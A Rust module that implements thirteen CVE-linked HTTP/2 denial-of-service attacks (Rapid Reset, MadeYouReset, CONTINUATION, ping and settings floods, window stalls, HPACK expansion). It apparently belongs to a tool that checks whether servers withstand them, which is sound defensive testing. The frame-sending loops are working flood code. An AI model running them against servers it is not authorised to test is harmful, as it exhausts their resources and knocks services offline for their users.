//! Attacks by a peer of HTTP/2: much work or memory for the server, little for the peer.

use std::io;

use crate::frames::{
    ACK, CANCEL, CONTINUATION, DATA, END_HEADERS, Frames, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, block,
};

/// One attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Sends requests and resets them at once (CVE-2023-44487).
    RapidReset,
    /// Sends requests and makes the server reset them, through stream errors (CVE-2025-8671).
    MadeYouReset,
    /// An endless head (CVE-2024-27316).
    Continuations,
    /// The same in empty pieces.
    EmptyContinuations,
    /// Repeated settings, with the acknowledgments read (CVE-2019-9515).
    Settings,
    /// Repeated pings, with the answers read (CVE-2019-9512).
    Pings,
    /// Repeated pings, with the answers unread.
    DeafPings,
    /// Priorities, which have no meaning any more (CVE-2019-9513).
    Priorities,
    /// Empty pieces of a body (CVE-2019-9518).
    EmptyData,
    /// Reads replies byte by byte (CVE-2019-9511).
    SmallWindows,
    /// Sends requests on all streams and reads nothing (CVE-2019-9517).
    ClosedWindows,
    /// Small heads that expand to large ones (CVE-2016-6581).
    LargeHeads,
    /// Bodies on all streams that stop.
    StandingBodies,
}

impl Attack {
    /// All attacks.
    pub const ALL: [Attack; 13] = [
        Attack::RapidReset,
        Attack::MadeYouReset,
        Attack::Continuations,
        Attack::EmptyContinuations,
        Attack::Settings,
        Attack::Pings,
        Attack::DeafPings,
        Attack::Priorities,
        Attack::EmptyData,
        Attack::SmallWindows,
        Attack::ClosedWindows,
        Attack::LargeHeads,
        Attack::StandingBodies,
    ];

    /// The initial window of streams for this attack.
    pub fn window(self) -> u32 {
        match self {
            Attack::SmallWindows | Attack::ClosedWindows => 0,
            _ => 65_535,
        }
    }

    /// The number of steps, of a hundred frames each, that no server should tolerate. Where answers
    /// are read, the server has read the frames that they answer. Otherwise some megabytes may
    /// still be in buffers before the server has read them: those attacks get more steps than any
    /// buffer holds.
    pub fn steps(self) -> u32 {
        match self {
            Attack::Settings | Attack::Pings | Attack::SmallWindows => 300,
            _ => 30_000,
        }
    }

    /// Continues the attack for this many steps of a hundred frames; false if the server has
    /// tolerated all of them.
    ///
    /// # Errors
    ///
    /// No data could be read or written for too long.
    pub fn play(self, frames: &mut Frames, path: &str, steps: u32) -> io::Result<bool> {
        for step in 0..steps {
            if step == 0 {
                self.begin(frames, path);
            }
            let expected = self.put(frames, path, step);
            if frames.flush().is_err() || !read(frames, expected)? {
                return Ok(true);
            }
        }
        Ok(false)
    }

    fn begin(self, frames: &mut Frames, path: &str) {
        let head = block(path, &AUTHORITY);
        match self {
            Attack::Continuations | Attack::EmptyContinuations => frames.put(HEADERS, 0, 1, &head),
            Attack::EmptyData => frames.put(HEADERS, END_HEADERS, 1, &head),
            Attack::SmallWindows => frames.put(HEADERS, END_HEADERS | 1, 1, &head),
            _ => {}
        }
    }

    /// Sends a hundred frames; returns the number and kind of the answers to read.
    fn put(self, frames: &mut Frames, path: &str, step: u32) -> (u8, u32) {
        let head = block(path, &AUTHORITY);
        let mut expected = (DATA, 0);
        for number in 0..100 {
            let stream = 2 * (100 * step + number) + 1;
            match self {
                Attack::RapidReset => {
                    frames.put(HEADERS, END_HEADERS | 1, stream, &head);
                    frames.put(RST_STREAM, 0, stream, &CANCEL);
                }
                Attack::MadeYouReset => {
                    frames.put(HEADERS, END_HEADERS, stream, &head);
                    // A missing increment is an error of the stream only.
                    frames.put(WINDOW_UPDATE, 0, stream, &[0; 4]);
                }
                Attack::Continuations => {
                    frames.put(CONTINUATION, 0, 1, &block("/", &[("x-more", &"x".repeat(100))])[2..])
                }
                Attack::EmptyContinuations => frames.put(CONTINUATION, 0, 1, &[]),
                Attack::Settings => {
                    frames.put(SETTINGS, 0, 0, &[]);
                    expected = (SETTINGS, 100);
                }
                Attack::Pings => {
                    frames.put(PING, 0, 0, &[7; 8]);
                    expected = (PING, 100);
                }
                Attack::DeafPings => frames.put(PING, 0, 0, &[7; 8]),
                Attack::Priorities => frames.put(PRIORITY, 0, 1, &[0, 0, 0, 0, 15]),
                Attack::EmptyData => frames.put(DATA, 0, 1, &[]),
                Attack::SmallWindows => {
                    frames.put(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes());
                    expected = (DATA, 1);
                }
                Attack::ClosedWindows => frames.put(HEADERS, END_HEADERS | 1, stream, &head),
                Attack::LargeHeads => {
                    frames.put(HEADERS, END_HEADERS | 1, stream, &large(&head));
                    frames.put(RST_STREAM, 0, stream, &CANCEL);
                }
                Attack::StandingBodies => {
                    frames.put(HEADERS, END_HEADERS, stream, &head);
                    frames.put(DATA, 0, stream, &[0; 10]);
                }
            }
        }
        expected
    }
}

/// Waits for this many frames; false if the connection ends before.
fn read(frames: &mut Frames, (kind, mut count): (u8, u32)) -> io::Result<bool> {
    while count > 0 {
        match frames.receive()? {
            None => return Ok(false),
            Some(frame) if frame.kind != kind => {}
            Some(frame) if kind != DATA && frame.flags & ACK == 0 => {}
            Some(_) => count -= 1,
        }
    }
    Ok(true)
}

/// A field of 3 KB that enters the table, and a thousand references to it.
fn large(head: &[u8]) -> Vec<u8> {
    let mut block = head.to_vec();
    // A literal with a new name; its value has a length of three bytes.
    block.extend([0x40, 6]);
    block.extend(b"x-more");
    block.extend([0x7f, 0xb9, 0x16]);
    block.extend([b'x'; 3_000]);
    block.extend([0xbe; 1_000]);
    block
}

const AUTHORITY: [(&str, &str); 1] = [(":authority", "a")];

const PRIORITY: u8 = 2;
